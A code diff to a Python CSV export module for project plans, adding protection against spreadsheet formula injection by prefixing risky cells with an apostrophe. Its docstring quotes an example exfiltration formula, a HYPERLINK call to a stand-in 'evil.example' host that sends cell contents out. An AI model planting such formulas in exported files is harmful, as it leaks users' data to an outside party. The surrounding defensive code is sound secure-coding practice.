@@ -3,6 +3,10 @@
 Columns: id, milestone, kind, title, hours, due, status, since, note, resources (the resource
 URLs joined by one space; URLs hold no spaces). Written by the csv module (RFC 4180 quoting,
 CRLF row ends), so titles and notes with commas, quotes or newlines survive a round trip.
+
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an
+apostrophe in front (OWASP's advice on CSV injection): a spreadsheet would otherwise run a
+note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` as a formula.
 """
 
 from __future__ import annotations
@@ -12,6 +16,8 @@ import io
 
 from ..engine.plans.model import Plan, Progress
 from ._common import hours_text, iso, states_by_step
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 COLUMNS = (
     "id", "milestone", "kind", "title", "hours", "due", "status", "since", "note", "resources",
@@ -26,7 +32,7 @@ def plan_csv(plan: Plan, progress: Progress) -> str:
     writer.writerow(COLUMNS)
     for step in plan.steps:
         state = states[step.id]
-        writer.writerow((
+        writer.writerow(inert(cell) for cell in (
             step.id,
             step.milestone,
             step.kind,
@@ -39,3 +45,8 @@ def plan_csv(plan: Plan, progress: Progress) -> str:
             " ".join(r.url for r in step.resources if r.url),
         ))  # fmt: skip
     return buffer.getvalue()
+
+
+def inert(cell: str) -> str:
+    """The cell as text a spreadsheet shows and never evaluates."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
